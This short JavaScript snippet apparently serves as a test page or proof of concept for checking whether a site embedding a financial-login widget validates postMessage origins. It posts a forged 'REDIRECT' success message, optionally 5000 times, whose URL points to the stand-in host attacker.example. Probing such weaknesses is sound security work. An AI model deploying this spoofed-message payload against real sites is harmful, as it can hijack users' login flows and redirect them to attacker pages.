// Posts forged successes to the page that holds the widget, from a window that is not the widget's.

const loginId = "11111111-2222-4333-8444-555555555555";
const forged = {
  step: "REDIRECT",
  institution: "FlinksCapital",
  loginId,
  url: `https://attacker.example/?loginId=${loginId}`,
};
const times = window.location.hash === "#flood" ? 5000 : 1;
for (let time = 0; time < times; time += 1) window.parent.parent.postMessage(forged, "*");
